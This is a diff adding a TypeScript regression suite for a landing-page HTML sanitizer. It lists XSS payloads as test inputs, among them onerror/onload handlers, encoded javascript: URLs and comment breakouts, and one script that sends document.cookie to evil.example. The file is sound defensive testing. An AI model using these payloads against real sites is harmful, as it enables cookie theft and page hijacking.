@@ -0,0 +1,146 @@
+// src/worker/landing/sanitize-cli.ts
+/**
+ * Regression cases for sanitizeLandingHtml: each input must come out without the unsafe
+ * part, with the expected issue codes in the report, and keep what is allowed.
+ * No DB or network.
+ *
+ *   npm run landing:sanitize-cases -- [--json]
+ *
+ * Exit code 1 when any case fails.
+ */
+import { sanitizeLandingHtml, type IssueCode } from './validate';
+
+type Case = {
+  name: string;
+  input: string;
+  issues: IssueCode[]; // every code must be reported (errors only; warnings are ignored)
+  absent?: RegExp[]; // must not match the sanitized html
+  present?: RegExp[]; // must match the sanitized html
+};
+
+const OWN = ['shop.example'];
+
+const CASES: Case[] = [
+  // handlers without whitespace before them
+  { name: 'svg onload after slash', input: '<svg/onload=alert(1)>', issues: ['inline_handler'], absent: [/onload/i, /alert/] },
+  {
+    name: 'img onerror glued to a quoted attribute',
+    input: '<img src="x"onerror="alert(1)">',
+    issues: ['inline_handler'],
+    absent: [/onerror/i],
+    present: [/<img src="x">/],
+  },
+  // entities are decoded before the scheme check
+  {
+    name: 'entity-encoded javascript: href',
+    input: '<a href="java&#x73;cript:alert(1)">x</a>',
+    issues: ['javascript_url'],
+    absent: [/script:/i],
+    present: [/<a href="#">x<\/a>/],
+  },
+  {
+    name: 'javascript: with tabs and leading space',
+    input: '<a href=" jav\tascript:alert(1)">x</a>',
+    issues: ['javascript_url'],
+    absent: [/alert/],
+  },
+  { name: 'data: link', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>', issues: ['javascript_url'], absent: [/data:/] },
+  // tailwind config must be a JSON object
+  {
+    name: 'tailwind config with an assignment',
+    input: '<script>tailwind.config = { a: location.href = "https://evil.example/?c=" + document.cookie }</script>',
+    issues: ['inline_script'],
+    absent: [/<script/i, /cookie/],
+  },
+  {
+    name: 'tailwind config with a tagged template',
+    input: '<script>tailwind.config = { a: fetch`/api/v1/seller/stores` }</script>',
+    issues: ['inline_script'],
+    absent: [/<script/i, /fetch/],
+  },
+  {
+    name: 'tailwind config as JSON is kept',
+    input: '<script>tailwind.config = {"darkMode":"class","theme":{"extend":{"colors":{"brand":"#16a34a"}}}}</script>',
+    issues: [],
+    present: [/<script>tailwind\.config = \{"darkMode":"class"/],
+  },
+  {
+    name: 'tailwind config JSON cannot close the script',
+    input: '<script>tailwind.config = {"x":"<\\/script><img src=x onerror=alert(1)>"}</script>',
+    issues: [],
+    absent: [/<img/i],
+    present: [/\\u003c\/script>/],
+  },
+  // forms and buttons posting elsewhere, <base>
+  {
+    name: 'button formaction to another domain',
+    input: '<form><button formaction="https://evil.example/x">Buy</button></form>',
+    issues: ['foreign_form_action'],
+    absent: [/evil/],
+    present: [/<button>Buy<\/button>/],
+  },
+  { name: 'base href', input: '<base href="https://evil.example/"><a href="/p">x</a>', issues: ['base_tag'], absent: [/<base/i, /evil/] },
+  { name: 'form action to own host is kept', input: '<form action="https://shop.example/p/x"></form>', issues: [], present: [/action="https:\/\/shop\.example\/p\/x"/] },
+  { name: 'form action to another domain', input: '<form action="https://evil.example/x"></form>', issues: ['foreign_form_action'], absent: [/evil/] },
+  // parser-level tricks
+  { name: 'unterminated script', input: '<p>hi</p><script>alert(1)', issues: ['inline_script'], absent: [/alert/], present: [/<p>hi<\/p>/] },
+  {
+    name: 'svg style with encoded markup',
+    input: '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
+    issues: [],
+    absent: [/onerror/i, /<img/i],
+  },
+  { name: 'svg animate setting href', input: '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', issues: [], absent: [/javascript/i] },
+  { name: 'svg use to an external document', input: '<svg><use href="https://evil.example/x.svg#a"/></svg>', issues: ['javascript_url'], absent: [/evil/] },
+  { name: 'iframe srcdoc', input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', issues: ['iframe'], absent: [/iframe/i, /alert/] },
+  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=https://evil.example">', issues: ['meta_refresh'], absent: [/refresh/i] },
+  { name: 'css expression', input: '<div style="width:expression(alert(1))">x</div>', issues: ['unsafe_style'], absent: [/expression/] },
+  { name: 'comment breakout', input: '<!--><img src=x onerror=alert(1)>-->', issues: ['inline_handler'], absent: [/onerror/i] },
+  // trackers and allowed scripts
+  {
+    name: 'tracking pixel and gtag',
+    input: '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><img src="https://www.facebook.com/tr?id=1">',
+    issues: ['tracking_snippet'],
+    absent: [/googletagmanager/, /facebook/],
+  },
+  { name: 'tailwind CDN is kept', input: '<script src="https://cdn.tailwindcss.com"></script>', issues: [], present: [/cdn\.tailwindcss\.com/] },
+  { name: 'script from another host', input: '<script src="https://evil.example/x.js"></script>', issues: ['external_script'], absent: [/evil/] },
+  {
+    name: 'json-ld is kept',
+    input: '<script type="application/ld+json">{"@type":"Product","name":"</script-ish>"}</script>',
+    issues: [],
+    present: [/application\/ld\+json/, /\\u003c\/script-ish>/],
+  },
+  {
+    name: 'order form placeholder survives',
+    input: '<section><h1>Shoes</h1><div data-ittri-order-form></div></section>',
+    issues: [],
+    present: [/<div data-ittri-order-form=""><\/div>/],
+  },
+];
+
+function run(c: Case): string[] {
+  const { html, report } = sanitizeLandingHtml(c.input, { ownHosts: OWN });
+  const errors = report.issues.filter((i) => i.severity === 'error').map((i) => i.code);
+  const problems: string[] = [];
+  for (const code of c.issues) if (!errors.includes(code)) problems.push(`missing issue ${code}`);
+  if (!c.issues.length && errors.length) problems.push(`unexpected issues ${errors.join(', ')}`);
+  for (const re of c.absent ?? []) if (re.test(html)) problems.push(`output matches ${re}`);
+  for (const re of c.present ?? []) if (!re.test(html)) problems.push(`output lacks ${re}`);
+  return problems.map((p) => `${p}\n      ${html.replace(/\s+/g, ' ').slice(0, 160)}`);
+}
+
+const asJson = process.argv.includes('--json');
+const results = CASES.map((c) => ({ name: c.name, problems: run(c) }));
+const failed = results.filter((r) => r.problems.length);
+
+if (asJson) {
+  console.log(JSON.stringify({ total: results.length, failed: failed.length, results }, null, 2));
+} else {
+  for (const r of results) {
+    console.log(`${r.problems.length ? '✗' : '✓'} ${r.name}`);
+    for (const p of r.problems) console.log(`    ${p}`);
+  }
+  console.log(`\n${results.length - failed.length}/${results.length} cases pass`);
+}
+process.exit(failed.length ? 1 : 0);